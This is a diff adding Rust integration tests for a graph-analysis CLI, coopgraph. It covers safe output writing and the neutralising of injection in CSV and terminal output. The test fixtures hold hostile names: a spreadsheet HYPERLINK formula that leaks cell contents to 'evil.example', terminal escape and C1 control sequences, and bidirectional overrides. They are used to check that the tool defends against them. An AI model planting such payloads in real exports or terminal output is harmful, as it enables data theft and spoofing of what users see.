@@ -1,7 +1,10 @@
 //! Outputs and safety: writes that never leave half a file, hostile input
 //! (too large, badly encoded, absurdly nested) refused by name, hostile names
 //! intact and escaped in every output format, and regressions for inputs
-//! that used to break the tool.
+//! that used to break the tool. Module `outputs`: safe writing (links and
+//! devices, `-o -`, sets written whole, inputs never written, temporary files
+//! after signals, permissions); module `injection`: spreadsheet formulas and
+//! escape sequences on terminals.
 
 mod support;
 
@@ -1256,4 +1259,956 @@ fn derived_dates_keep_their_written_form_in_answers() {
         .unwrap();
     assert_eq!(bilateral["start"]["text"], "2016-03 - 18 months");
     assert_eq!(bilateral["start"]["value"], "2014-09");
+}
+
+mod outputs {
+    //! Safe writing of output files (`-o`): only regular files are replaced,
+    //! and only with `--force`, keeping their permissions; links, devices and
+    //! FIFOs are never replaced (devices and FIFOs are written through); `-o -`
+    //! is stdout; sets of files (report, CSV and Neo4j folders) are checked and
+    //! written whole; no output lands on an input however it is named; and no
+    //! temporary file outlives a signal or a killed writer. (Issue 14: Security
+    //! 1, Outputs and files 4–9 and 11.)
+    #![cfg(unix)]
+
+    use crate::support::{coopgraph, write};
+    use predicates::prelude::*;
+    use std::os::unix::fs::{FileTypeExt, MetadataExt, PermissionsExt};
+    use std::path::{Path, PathBuf};
+    use std::time::{Duration, Instant, SystemTime};
+
+    const OLD: &str = "old contents\n";
+
+    /// `generate` with a small dataset, then `args`.
+    fn generate(args: &[&str]) -> assert_cmd::Command {
+        let mut c = coopgraph();
+        c.args(["generate", "--orgs", "10", "--projects", "5"])
+            .args(args);
+        c
+    }
+
+    /// The names in `dir`, sorted.
+    fn names(dir: &Path) -> Vec<String> {
+        let mut v: Vec<String> = std::fs::read_dir(dir)
+            .unwrap()
+            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+            .collect();
+        v.sort();
+        v
+    }
+
+    /// Temporary files of coopgraph's in `dir`.
+    fn temporaries(dir: &Path) -> Vec<String> {
+        names(dir)
+            .into_iter()
+            .filter(|n| n.starts_with(".coopgraph-"))
+            .collect()
+    }
+
+    fn is_symlink(p: &Path) -> bool {
+        std::fs::symlink_metadata(p).is_ok_and(|m| m.file_type().is_symlink())
+    }
+
+    /// A small CSV edge list that `--data` and `import` read.
+    fn edge_list(dir: &Path, name: &str) -> PathBuf {
+        write(
+            dir,
+            name,
+            "source,target,relation\nAgency A,Network N,member\nAgency B,Network N,member\n",
+        )
+    }
+
+    /// The id of a process that has ended.
+    fn dead_pid() -> u32 {
+        let mut child = std::process::Command::new("true").spawn().unwrap();
+        let pid = child.id();
+        child.wait().unwrap();
+        pid
+    }
+
+    // ------------------------------------------------- links, devices, FIFOs (1)
+
+    #[test]
+    fn a_symbolic_link_is_never_replaced_even_with_force() {
+        let dir = tempfile::tempdir().unwrap();
+        let target = write(&dir, "target.json", OLD);
+        let link = dir.path().join("link.json");
+        std::os::unix::fs::symlink(&target, &link).unwrap();
+        for force in [false, true] {
+            let mut c = generate(&["-o"]);
+            c.arg(&link);
+            if force {
+                c.arg("--force");
+            }
+            c.assert()
+                .failure()
+                .stderr(predicate::str::contains("is a symbolic link"))
+                .stderr(predicate::str::contains("--force").not());
+            assert!(is_symlink(&link), "the link was replaced (force: {force})");
+            assert_eq!(std::fs::read_to_string(&target).unwrap(), OLD);
+        }
+        assert_eq!(names(dir.path()), ["link.json", "target.json"]);
+    }
+
+    #[test]
+    fn a_fifo_is_written_through_and_stays_a_fifo() {
+        let dir = tempfile::tempdir().unwrap();
+        let fifo = dir.path().join("pipe");
+        let made = std::process::Command::new("mkfifo")
+            .arg(&fifo)
+            .status()
+            .unwrap();
+        assert!(made.success());
+        // A reader on the other end, as `coopgraph … -o pipe` would have,
+        // copying into a file outside the folder.
+        let copy_dir = tempfile::tempdir().unwrap();
+        let copy = copy_dir.path().join("copy.json");
+        let mut reader = std::process::Command::new("cat")
+            .arg(&fifo)
+            .stdout(std::fs::File::create(&copy).unwrap())
+            .spawn()
+            .unwrap();
+        let run = coopgraph()
+            .args(["--quiet", "export", "json", "-o"])
+            .arg(&fifo)
+            .timeout(Duration::from_secs(60))
+            .output()
+            .unwrap();
+        if !run.status.success() {
+            reader.kill().unwrap();
+        }
+        reader.wait().unwrap();
+        assert!(
+            run.status.success(),
+            "{}",
+            String::from_utf8_lossy(&run.stderr)
+        );
+        let v: serde_json::Value =
+            serde_json::from_str(&std::fs::read_to_string(&copy).unwrap()).unwrap();
+        assert!(v["nodes"].as_array().is_some_and(|n| !n.is_empty()));
+        let t = std::fs::symlink_metadata(&fifo).unwrap().file_type();
+        assert!(t.is_fifo(), "the FIFO was replaced");
+        assert_eq!(names(dir.path()), ["pipe"]);
+    }
+
+    #[test]
+    fn dev_null_is_written_through_and_stays_a_character_device() {
+        // Without --force first: before the fix, `--force` replaced the device
+        // (as root), so this order fails safely on an unfixed build.
+        coopgraph()
+            .args(["--quiet", "export", "json", "-o", "/dev/null"])
+            .assert()
+            .success();
+        coopgraph()
+            .args(["--quiet", "export", "graphml", "-o", "/dev/null", "--force"])
+            .assert()
+            .success();
+        let t = std::fs::symlink_metadata("/dev/null").unwrap().file_type();
+        assert!(t.is_char_device(), "/dev/null is no longer a device");
+    }
+
+    #[test]
+    fn a_socket_is_refused_without_a_hint_to_force() {
+        let dir = tempfile::tempdir().unwrap();
+        let sock = dir.path().join("sock");
+        let _listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
+        for force in [false, true] {
+            let mut c = generate(&["-o"]);
+            c.arg(&sock);
+            if force {
+                c.arg("--force");
+            }
+            c.assert()
+                .code(1)
+                .stderr(predicate::str::contains("it is a socket, not a file"))
+                .stderr(predicate::str::contains("--force").not());
+            let t = std::fs::symlink_metadata(&sock).unwrap().file_type();
+            assert!(t.is_socket(), "the socket was replaced (force: {force})");
+        }
+    }
+
+    // --------------------------------------------------------------- -o - (1)
+
+    #[test]
+    fn dash_is_stdout_for_every_single_file_output() {
+        let dir = tempfile::tempdir().unwrap();
+        edge_list(dir.path(), "in.csv");
+        let run = |args: &[&str]| -> String {
+            let out = coopgraph()
+                .current_dir(dir.path())
+                .arg("--quiet")
+                .args(args)
+                .assert()
+                .success();
+            String::from_utf8(out.get_output().stdout.clone()).unwrap()
+        };
+        for args in [
+            &["render", "--engine", "builtin", "-o", "-"][..],
+            &["timeline", "Swedish Migration Agency", "-o", "-"],
+            &["heatmap", "-o", "-"],
+        ] {
+            let svg = run(args);
+            assert!(
+                svg.contains("<svg") && svg.trim_end().ends_with("</svg>"),
+                "{args:?}: {svg:.200}"
+            );
+        }
+        for args in [
+            &["export", "json", "-o", "-"][..],
+            &["generate", "--orgs", "10", "--projects", "5", "-o", "-"],
+            &["import", "in.csv", "-o", "-"],
+        ] {
+            let text = run(args);
+            let v: Result<serde_json::Value, _> = serde_json::from_str(&text);
+            assert!(v.is_ok(), "{args:?}: {text:.200}");
+        }
+        let graphml = run(&["export", "graphml", "-o", "-"]);
+        assert!(graphml.contains("<graphml"));
+        assert_eq!(names(dir.path()), ["in.csv"], "a file named - was written");
+    }
+
+    #[test]
+    fn folder_outputs_refuse_dash_with_a_clear_message() {
+        let dir = tempfile::tempdir().unwrap();
+        for args in [
+            &["report", "--engine", "builtin", "-o", "-"][..],
+            &["export", "csv", "-o", "-"],
+            &["export", "neo4j", "-o", "-"],
+        ] {
+            coopgraph()
+                .current_dir(dir.path())
+                .args(args)
+                .assert()
+                .code(2)
+                .stderr(predicate::str::contains(
+                    "writes a folder of files, which cannot go to stdout",
+                ));
+        }
+        assert!(names(dir.path()).is_empty(), "a folder named - was made");
+    }
+
+    // ------------------------------------------------------- sets of files (4, 5)
+
+    #[test]
+    fn an_export_folder_that_cannot_be_written_whole_keeps_every_old_file() {
+        let dir = tempfile::tempdir().unwrap();
+        let out = dir.path().join("out");
+        std::fs::create_dir(&out).unwrap();
+        write(&out, "sources.csv", OLD);
+        write(&out, "nodes.csv", OLD);
+        // The last file of the set cannot be written: a folder is in its place.
+        std::fs::create_dir(out.join("edges.csv")).unwrap();
+        coopgraph()
+            .args(["export", "csv", "--force", "-o"])
+            .arg(&out)
+            .assert()
+            .code(1)
+            .stderr(predicate::str::contains("edges.csv"))
+            .stderr(predicate::str::contains("it is a folder, not a file"));
+        for f in ["sources.csv", "nodes.csv"] {
+            assert_eq!(std::fs::read_to_string(out.join(f)).unwrap(), OLD, "{f}");
+        }
+        assert_eq!(names(&out), ["edges.csv", "nodes.csv", "sources.csv"]);
+    }
+
+    #[test]
+    fn a_report_that_cannot_be_written_whole_keeps_every_old_file() {
+        let dir = tempfile::tempdir().unwrap();
+        let out = dir.path().join("report");
+        std::fs::create_dir(&out).unwrap();
+        write(&out, "index.html", OLD);
+        std::fs::create_dir(out.join("report.md")).unwrap();
+        coopgraph()
+            .args(["report", "--engine", "builtin", "-o"])
+            .arg(&out)
+            .assert()
+            .code(1)
+            .stderr(predicate::str::contains("report.md"));
+        assert_eq!(
+            std::fs::read_to_string(out.join("index.html")).unwrap(),
+            OLD
+        );
+        assert_eq!(names(&out), ["index.html", "report.md"]);
+    }
+
+    #[test]
+    fn a_set_whose_staging_fails_replaces_nothing_and_leaves_no_temporary_file() {
+        let dir = tempfile::tempdir().unwrap();
+        let first = write(&dir, "first.csv", OLD);
+        // The second file's folder cannot be made: a file has its name.
+        write(&dir, "blocked", OLD);
+        let set = [
+            (first.clone(), &b"new"[..]),
+            (dir.path().join("blocked").join("second.csv"), &b"new"[..]),
+        ];
+        let err = coopgraph::write::atomic_set(&set, true).unwrap_err();
+        assert_eq!(err.exit_code(), 1);
+        assert!(err.to_string().contains("blocked"), "{err}");
+        assert_eq!(std::fs::read_to_string(&first).unwrap(), OLD);
+        assert_eq!(names(dir.path()), ["blocked", "first.csv"]);
+    }
+
+    #[test]
+    fn a_set_whose_renames_fail_midway_puts_back_what_it_had_replaced() {
+        let dir = tempfile::tempdir().unwrap();
+        let first = write(&dir, "first.csv", OLD);
+        let fresh = dir.path().join("fresh.csv");
+        // A name too long for the file system: checked and staged (the
+        // temporary file has a short name), the rename fails.
+        let long = dir.path().join("x".repeat(300));
+        let set = [
+            (first.clone(), &b"new"[..]),
+            (fresh.clone(), &b"new"[..]),
+            (long, &b"new"[..]),
+        ];
+        let err = coopgraph::write::atomic_set(&set, true).unwrap_err();
+        assert!(matches!(err, coopgraph::Error::Write { .. }), "{err}");
+        assert!(err.to_string().contains("nothing was replaced"), "{err}");
+        assert_eq!(std::fs::read_to_string(&first).unwrap(), OLD);
+        assert!(!fresh.exists(), "a new file of a failed set was left");
+        assert_eq!(names(dir.path()), ["first.csv"]);
+    }
+
+    #[test]
+    fn an_export_folder_is_checked_whole_against_the_inputs_before_any_write() {
+        let dir = tempfile::tempdir().unwrap();
+        let out = dir.path().join("out");
+        std::fs::create_dir(&out).unwrap();
+        write(&out, "sources.csv", OLD);
+        write(&out, "nodes.csv", OLD);
+        // The set's last file is the --data input.
+        let input = edge_list(&out, "edges.csv");
+        let before = std::fs::read_to_string(&input).unwrap();
+        coopgraph()
+            .args(["export", "csv", "--force", "--data"])
+            .arg(&input)
+            .arg("-o")
+            .arg(&out)
+            .assert()
+            .code(2)
+            .stderr(predicate::str::contains("never writes to its inputs"));
+        for f in ["sources.csv", "nodes.csv"] {
+            assert_eq!(std::fs::read_to_string(out.join(f)).unwrap(), OLD, "{f}");
+        }
+        assert_eq!(std::fs::read_to_string(&input).unwrap(), before);
+    }
+
+    // ------------------------------------------------------------ inputs (6)
+
+    #[test]
+    fn a_new_folder_inside_a_data_folder_is_an_input_too() {
+        let dir = tempfile::tempdir().unwrap();
+        let data = dir.path().join("data");
+        std::fs::create_dir(&data).unwrap();
+        // The repository's dataset, which the default report spec fits.
+        let repo_data = Path::new(env!("CARGO_MANIFEST_DIR")).join("data");
+        for f in [
+            "crime.json",
+            "development.json",
+            "international.json",
+            "sources.json",
+        ] {
+            std::fs::copy(repo_data.join(f), data.join(f)).unwrap();
+        }
+        coopgraph()
+            .args(["report", "--engine", "builtin", "--data"])
+            .arg(&data)
+            .arg("-o")
+            .arg(data.join("new").join("sub"))
+            .assert()
+            .code(2)
+            .stderr(predicate::str::contains("never writes to its inputs"));
+        generate(&["--data"])
+            .arg(&data)
+            .arg("-o")
+            .arg(data.join("new").join("..").join("other").join("x.json"))
+            .assert()
+            .code(2)
+            .stderr(predicate::str::contains("never writes to its inputs"));
+        assert_eq!(
+            names(&data),
+            [
+                "crime.json",
+                "development.json",
+                "international.json",
+                "sources.json"
+            ]
+        );
+    }
+
+    #[test]
+    fn a_hard_link_to_an_input_is_the_input() {
+        let dir = tempfile::tempdir().unwrap();
+        let input = edge_list(dir.path(), "edges.csv");
+        let other = dir.path().join("elsewhere");
+        std::fs::create_dir(&other).unwrap();
+        let alias = other.join("alias.json");
+        std::fs::hard_link(&input, &alias).unwrap();
+        let ino = std::fs::metadata(&input).unwrap().ino();
+        generate(&["--force", "--data"])
+            .arg(&input)
+            .arg("-o")
+            .arg(&alias)
+            .assert()
+            .code(2)
+            .stderr(predicate::str::contains("never writes to its inputs"));
+        assert_eq!(std::fs::metadata(&alias).unwrap().ino(), ino);
+    }
+
+    #[test]
+    fn import_never_writes_over_its_own_input() {
+        let dir = tempfile::tempdir().unwrap();
+        let input = edge_list(dir.path(), "in.csv");
+        let before = std::fs::read_to_string(&input).unwrap();
+        coopgraph()
+            .arg("import")
+            .arg(&input)
+            .arg("-o")
+            .arg(&input)
+            .arg("--force")
+            .assert()
+            .code(2)
+            .stderr(predicate::str::contains("never writes to its inputs"));
+        assert_eq!(std::fs::read_to_string(&input).unwrap(), before);
+    }
+
+    // ------------------------------------------------------ temporary files (7)
+
+    /// Starts a long `generate --force -o big.json` in `dir`, waits until its
+    /// temporary file has data, and sends it `signal`.
+    fn interrupt_while_writing(dir: &Path, signal: &str) {
+        let p = dir.join("big.json");
+        std::fs::write(&p, OLD).unwrap();
+        let bin = assert_cmd::cargo::cargo_bin("coopgraph");
+        let mut child = std::process::Command::new(bin)
+            .args([
+                "generate",
+                "--orgs",
+                "20000",
+                "--projects",
+                "30000",
+                "--force",
+                "-o",
+            ])
+            .arg(&p)
+            .stderr(std::process::Stdio::null())
+            .spawn()
+            .unwrap();
+        let start = Instant::now();
+        let writing = loop {
+            let started = temporaries(dir)
+                .iter()
+                .any(|n| std::fs::metadata(dir.join(n)).is_ok_and(|m| m.len() > 0));
+            if started || start.elapsed() > Duration::from_secs(60) {
+                break started;
+            }
+            if child.try_wait().unwrap().is_some() {
+                break false;
+            }
+            std::thread::sleep(Duration::from_millis(2));
+        };
+        let sent = std::process::Command::new("kill")
+            .args([signal, &child.id().to_string()])
+            .status()
+            .unwrap();
+        let status = child.wait().unwrap();
+        assert!(writing, "never saw the output being written");
+        assert!(sent.success());
+        assert!(!status.success(), "{signal} did not stop the command");
+        assert_eq!(std::fs::read_to_string(&p).unwrap(), OLD);
+        assert_eq!(temporaries(dir), Vec::<String>::new(), "after {signal}");
+    }
+
+    #[test]
+    fn sigterm_while_writing_leaves_no_temporary_file() {
+        let dir = tempfile::tempdir().unwrap();
+        interrupt_while_writing(dir.path(), "-TERM");
+    }
+
+    #[test]
+    fn ctrl_c_while_writing_leaves_no_temporary_file() {
+        let dir = tempfile::tempdir().unwrap();
+        interrupt_while_writing(dir.path(), "-INT");
+    }
+
+    #[test]
+    fn stale_temporary_files_of_ended_writers_are_removed_and_no_others() {
+        let dir = tempfile::tempdir().unwrap();
+        let hour_ago = SystemTime::now() - Duration::from_secs(3600);
+        let age = |name: &str, when: SystemTime| {
+            let p = write(&dir, name, OLD);
+            let f = std::fs::File::options().write(true).open(&p).unwrap();
+            f.set_modified(when).unwrap();
+        };
+        let dead = dead_pid();
+        let alive = std::process::id();
+        age(&format!(".coopgraph-{dead}-aB3xYz.tmp"), hour_ago); // stale: removed
+        age(&format!(".coopgraph-{alive}-aB3xYz.tmp"), hour_ago); // writer alive
+        age(&format!(".coopgraph-{dead}-Qw7eRt.tmp"), SystemTime::now()); // fresh
+        age(".coopgraph-notes.tmp", hour_ago); // not a name coopgraph gives
+        age("mine.tmp", hour_ago);
+        generate(&["-o"])
+            .arg(dir.path().join("out.json"))
+            .assert()
+            .success();
+        let mut kept = vec![
+            format!(".coopgraph-{alive}-aB3xYz.tmp"),
+            format!(".coopgraph-{dead}-Qw7eRt.tmp"),
+            ".coopgraph-notes.tmp".to_string(),
+            "mine.tmp".to_string(),
+            "out.json".to_string(),
+        ];
+        kept.sort();
+        assert_eq!(names(dir.path()), kept);
+    }
+
+    // ------------------------------------------------------------ --force (8, 9)
+
+    #[test]
+    fn force_keeps_the_permissions_of_the_replaced_file() {
+        let dir = tempfile::tempdir().unwrap();
+        let p = write(&dir, "private.json", OLD);
+        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o600)).unwrap();
+        generate(&["--force", "-o"]).arg(&p).assert().success();
+        assert_ne!(std::fs::read_to_string(&p).unwrap(), OLD);
+        let mode = std::fs::metadata(&p).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode, 0o600, "mode {mode:o}");
+        // In a set too.
+        let out = dir.path().join("out");
+        std::fs::create_dir(&out).unwrap();
+        let nodes = write(&out, "nodes.csv", OLD);
+        std::fs::set_permissions(&nodes, std::fs::Permissions::from_mode(0o640)).unwrap();
+        coopgraph()
+            .args(["export", "csv", "--force", "-o"])
+            .arg(&out)
+            .assert()
+            .success();
+        let mode = std::fs::metadata(&nodes).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode, 0o640, "mode {mode:o}");
+    }
+
+    #[test]
+    fn a_dangling_symbolic_link_exists() {
+        let dir = tempfile::tempdir().unwrap();
+        let link = dir.path().join("out.json");
+        std::os::unix::fs::symlink(dir.path().join("nowhere.json"), &link).unwrap();
+        generate(&["-o"])
+            .arg(&link)
+            .assert()
+            .failure()
+            .stderr(predicate::str::contains("is a symbolic link"));
+        assert!(is_symlink(&link), "the dangling link was replaced");
+        assert_eq!(names(dir.path()), ["out.json"]);
+    }
+
+    #[test]
+    fn a_file_that_appears_while_writing_is_not_replaced_without_force() {
+        let dir = tempfile::tempdir().unwrap();
+        let p = dir.path().join("out.json");
+        // Another program creates the file after the check, before the rename.
+        let err = coopgraph::write::atomic(&p, false, |w| {
+            std::fs::write(&p, OLD)?;
+            w.write_all(b"new")
+        })
+        .unwrap_err();
+        assert!(
+            matches!(&err, coopgraph::Error::Exists { path } if *path == p),
+            "{err}"
+        );
+        assert_eq!(std::fs::read_to_string(&p).unwrap(), OLD);
+        assert_eq!(names(dir.path()), ["out.json"]);
+    }
+
+    // ------------------------------------------------------------ report (11)
+
+    #[test]
+    fn report_onto_a_file_says_it_is_a_file_not_a_folder() {
+        let dir = tempfile::tempdir().unwrap();
+        let p = write(&dir, "report", OLD);
+        coopgraph()
+            .args(["report", "--engine", "builtin", "-o"])
+            .arg(&p)
+            .assert()
+            .code(1)
+            .stderr(predicate::str::contains("it is a file, not a folder"))
+            .stderr(predicate::str::contains("os error").not());
+        assert_eq!(std::fs::read_to_string(&p).unwrap(), OLD);
+    }
+}
+
+mod injection {
+    //! Injection into spreadsheets and terminals (issue 14, security items 2
+    //! and 3): CSV cells that a spreadsheet would run as formulas are
+    //! neutralised in `metrics`/`communities --format csv` and the report's
+    //! tables (and in `export csv` only with `--spreadsheet-safe`), and names
+    //! holding escape sequences, C1 controls or bidirectional overrides never
+    //! reach a terminal raw: not in CSV or JSON on a terminal (tested through a
+    //! real pseudo-terminal made by util-linux `script`), not in the "wrote
+    //! PATH" lines, not in `report.md`.
+
+    use crate::support::coopgraph;
+    use std::path::{Path, PathBuf};
+
+    /// (node id, name): names a spreadsheet would run as a formula, and names
+    /// that would act on a terminal.
+    const NAMES: &[(&str, &str)] = &[
+        ("formula", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
+        ("plus", "+SUM(A1:A9)"),
+        ("minus", "-2+A3 minus"),
+        ("at", "@cmd at"),
+        ("tab", "\t=tab"),
+        ("cr", "\r=cr"),
+        ("esc", "Esc \u{1b}]0;owned\u{7} \u{1b}[2J bell"),
+        ("c1", "C1 \u{9b}2J csi \u{85}nel"),
+        ("bidi", "Bidi \u{202e}evil \u{2066}isolate"),
+    ];
+
+    /// The first characters that make a spreadsheet read a cell as a formula
+    /// (OWASP's list).
+    const FORMULA_START: &[char] = &['=', '+', '-', '@', '\t', '\r'];
+
+    /// Characters that must never reach a terminal raw: controls other than the
+    /// line break, and bidirectional formatting characters.
+    fn unsafe_char(c: char) -> bool {
+        (c.is_control() && c != '\n')
+            || matches!(c, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+    }
+
+    /// A dataset of one state and one agency per name of [`NAMES`], each part
+    /// of the state.
+    fn dataset(dir: &Path) -> PathBuf {
+        let mut nodes = vec![serde_json::json!({
+            "id": "sweden", "kind": "state", "name": "Sweden",
+            "sources": [{"source": "page"}]
+        })];
+        let mut relations = Vec::new();
+        for (id, name) in NAMES {
+            nodes.push(serde_json::json!({
+                "id": id, "kind": "agency", "name": name,
+                "sources": [{"source": "page"}]
+            }));
+            relations.push(serde_json::json!({
+                "kind": "part_of", "from": id, "to": "sweden", "role": name,
+                "sources": [{"source": "page"}]
+            }));
+        }
+        let data = serde_json::json!({
+            "sources": [{"id": "page", "kind": "page", "title": NAMES[0].1, "lang": "en"}],
+            "nodes": nodes,
+            "relations": relations,
+        });
+        crate::support::write(dir, "hostile.json", data.to_string())
+    }
+
+    /// Whether a cell is a number as a spreadsheet reads it.
+    fn numeric(cell: &str) -> bool {
+        cell.parse::<f64>().is_ok_and(f64::is_finite)
+    }
+
+    /// Checks that no cell of `csv` starts a formula, that every name of
+    /// `names` that would is in `name_column` with a leading `'`, and returns
+    /// the records.
+    fn assert_neutralised(
+        csv: &[u8],
+        name_column: &str,
+        names: &[(&str, &str)],
+        what: &str,
+    ) -> Vec<csv::StringRecord> {
+        let mut r = csv::Reader::from_reader(csv);
+        let header = r.headers().unwrap().clone();
+        let col = header.iter().position(|h| h == name_column).unwrap();
+        let records: Vec<_> = r.records().map(Result::unwrap).collect();
+        for rec in &records {
+            for cell in rec {
+                assert!(
+                    !cell.starts_with(FORMULA_START) || numeric(cell),
+                    "{what}: a cell a spreadsheet runs as a formula: {cell:?}"
+                );
+            }
+        }
+        let shown: Vec<&str> = records.iter().map(|r| &r[col]).collect();
+        for (_, name) in names.iter().filter(|(_, n)| n.starts_with(FORMULA_START)) {
+            let safe = format!("'{name}");
+            assert!(
+                shown.contains(&safe.as_str()),
+                "{what}: no {safe:?} in {shown:?}"
+            );
+        }
+        records
+    }
+
+    fn stdout(args: &[&str], data: &Path) -> Vec<u8> {
+        let out = coopgraph()
+            .arg("--data")
+            .arg(data)
+            .args(args)
+            .assert()
+            .success();
+        out.get_output().stdout.clone()
+    }
+
+    #[test]
+    fn metrics_and_communities_csv_neutralise_formulas_and_keep_numbers_numeric() {
+        let dir = tempfile::tempdir().unwrap();
+        let data = dataset(dir.path());
+        let metrics = stdout(&["metrics", "--format", "csv"], &data);
+        let records = assert_neutralised(&metrics, "name", NAMES, "metrics --format csv");
+        // The metric values stay numbers (columns after id, name, kind).
+        for rec in &records {
+            for cell in rec.iter().skip(3) {
+                assert!(numeric(cell), "metrics: a value is not a number: {cell:?}");
+            }
+        }
+        let communities = stdout(&["communities", "--format", "csv"], &data);
+        let records = assert_neutralised(&communities, "name", NAMES, "communities --format csv");
+        assert!(records.iter().all(|r| r[3].parse::<u64>().is_ok()));
+    }
+
+    #[test]
+    fn the_report_tables_neutralise_formulas() {
+        let dir = tempfile::tempdir().unwrap();
+        let data = dataset(dir.path());
+        let spec = crate::support::write(
+            dir.path(),
+            "spec.toml",
+            "title = \"T\"\n[[table]]\nid = \"metrics\"\nmetrics = [\"degree\", \"pagerank\"]\n",
+        );
+        let out = dir.path().join("report");
+        coopgraph()
+            .arg("--quiet")
+            .arg("--data")
+            .arg(&data)
+            .arg("report")
+            .arg("--spec")
+            .arg(&spec)
+            .arg("-o")
+            .arg(&out)
+            .assert()
+            .success();
+        let csv = std::fs::read(out.join("tables/metrics.csv")).unwrap();
+        let records = assert_neutralised(&csv, "name", NAMES, "report tables/metrics.csv");
+        for rec in &records {
+            for cell in rec.iter().skip(3) {
+                assert!(numeric(cell), "report table: not a number: {cell:?}");
+            }
+        }
+    }
+
+    fn export_csv(data: &Path, out: &Path, extra: &[&str]) -> Vec<csv::StringRecord> {
+        coopgraph()
+            .arg("--quiet")
+            .arg("--data")
+            .arg(data)
+            .args(["export", "csv", "-o"])
+            .arg(out)
+            .args(extra)
+            .assert()
+            .success();
+        let mut r = csv::Reader::from_path(out.join("nodes.csv")).unwrap();
+        r.records().map(Result::unwrap).collect()
+    }
+
+    #[test]
+    fn export_csv_stays_raw_and_is_neutralised_with_spreadsheet_safe() {
+        let dir = tempfile::tempdir().unwrap();
+        let data = dataset(dir.path());
+        // Raw by default: the names exactly, for round trips.
+        let raw = export_csv(&data, &dir.path().join("raw"), &[]);
+        let labels: Vec<&str> = raw.iter().map(|r| &r[1]).collect();
+        for (_, name) in NAMES {
+            assert!(labels.contains(name), "export csv changed {name:?}");
+        }
+        // With --spreadsheet-safe, every file of the folder is neutralised.
+        let safe = dir.path().join("safe");
+        export_csv(&data, &safe, &["--spreadsheet-safe"]);
+        assert_neutralised(
+            &std::fs::read(safe.join("nodes.csv")).unwrap(),
+            "Label",
+            NAMES,
+            "export csv --spreadsheet-safe",
+        );
+        // Relation roles and source titles are text cells too.
+        for (f, column, names) in [
+            ("edges.csv", "role", NAMES),
+            ("sources.csv", "title", &NAMES[..1]),
+        ] {
+            assert_neutralised(&std::fs::read(safe.join(f)).unwrap(), column, names, f);
+        }
+    }
+
+    #[test]
+    fn spreadsheet_safe_is_refused_for_formats_it_does_not_apply_to() {
+        let dir = tempfile::tempdir().unwrap();
+        coopgraph()
+            .args(["export", "graphml", "--spreadsheet-safe", "-o"])
+            .arg(dir.path().join("x.graphml"))
+            .assert()
+            .code(2)
+            .stderr(predicates::str::contains(
+                "--spreadsheet-safe is for `export csv`",
+            ));
+    }
+
+    /// Quotes a word for `sh`.
+    fn sh_quote(s: &str) -> String {
+        format!("'{}'", s.replace('\'', "'\\''"))
+    }
+
+    /// Whether util-linux `script` can give a command a terminal here: it may
+    /// be absent (or the BSD `script`, with other options), or the system may
+    /// have no pseudo-terminals.
+    fn can_make_a_terminal() -> bool {
+        let probe = std::process::Command::new("script")
+            .args(["-qec", "test -t 1", "/dev/null"])
+            .stdin(std::process::Stdio::null())
+            .output();
+        if probe.is_ok_and(|p| p.status.success()) {
+            return true;
+        }
+        crate::support::inputs::missing(
+            "a pseudo-terminal through util-linux `script`",
+            "terminal tests",
+        );
+        false
+    }
+
+    /// Runs coopgraph with `args` and stdout on a pseudo-terminal (util-linux
+    /// `script`), returning what the terminal received with its `\r\n` line
+    /// ends as `\n`; `None` (and "skipped" on stderr, a failure under CI) when
+    /// no terminal can be made.
+    fn on_terminal(args: &[&str]) -> Option<String> {
+        if !can_make_a_terminal() {
+            return None;
+        }
+        let bin = env!("CARGO_BIN_EXE_coopgraph");
+        let line = std::iter::once(bin)
+            .chain(args.iter().copied())
+            .map(sh_quote)
+            .collect::<Vec<_>>()
+            .join(" ");
+        let out = std::process::Command::new("script")
+            .args(["-qec", &line, "/dev/null"])
+            .stdin(std::process::Stdio::null())
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "{line}: {out:?}");
+        Some(String::from_utf8(out.stdout).unwrap().replace("\r\n", "\n"))
+    }
+
+    fn assert_nothing_raw(text: &str, what: &str) {
+        let raw: Vec<char> = text.chars().filter(|&c| unsafe_char(c)).collect();
+        assert!(
+            raw.is_empty(),
+            "{what} reached the terminal raw: {raw:?}\n{text}"
+        );
+    }
+
+    #[test]
+    fn csv_on_a_terminal_is_escaped_as_tables_are() {
+        let dir = tempfile::tempdir().unwrap();
+        let data = dataset(dir.path());
+        let data = data.to_str().unwrap();
+        for cmd in ["metrics", "communities"] {
+            let args = ["--quiet", "--data", data, cmd, "--format", "csv"];
+            let Some(shown) = on_terminal(&args) else {
+                return;
+            };
+            assert_nothing_raw(&shown, cmd);
+            assert!(shown.contains("Esc \\u{1b}]0;owned\\u{7}"), "{shown}");
+            assert!(shown.contains("C1 \\u{9b}2J"), "{shown}");
+            assert!(shown.contains("Bidi \\u{202e}evil"), "{shown}");
+        }
+    }
+
+    #[test]
+    fn json_on_a_terminal_escapes_c1_and_bidi_characters_and_keeps_the_values() {
+        let dir = tempfile::tempdir().unwrap();
+        let data = dataset(dir.path());
+        let data_arg = data.to_str().unwrap();
+        let args = ["--quiet", "--data", data_arg, "metrics", "--format", "json"];
+        let Some(shown) = on_terminal(&args) else {
+            return;
+        };
+        assert_nothing_raw(&shown, "metrics --format json");
+        assert!(shown.contains("C1 \\u009b2J"), "{shown}");
+        assert!(shown.contains("Bidi \\u202eevil"), "{shown}");
+        // Still JSON, with the same values as when piped.
+        let on_tty: serde_json::Value = serde_json::from_str(&shown).unwrap();
+        let piped = stdout(&["metrics", "--format", "json"], &data);
+        // Piped output is as it always was: the characters themselves.
+        let piped_text = String::from_utf8(piped.clone()).unwrap();
+        assert!(piped_text.contains("C1 \u{9b}2J"));
+        let piped: serde_json::Value = serde_json::from_slice(&piped).unwrap();
+        assert_eq!(on_tty, piped);
+    }
+
+    #[test]
+    fn csv_piped_keeps_every_character_after_the_quote() {
+        let dir = tempfile::tempdir().unwrap();
+        let data = dataset(dir.path());
+        let out = stdout(&["metrics", "--format", "csv"], &data);
+        let mut r = csv::Reader::from_reader(out.as_slice());
+        let names: Vec<String> = r.records().map(|r| r.unwrap()[1].to_string()).collect();
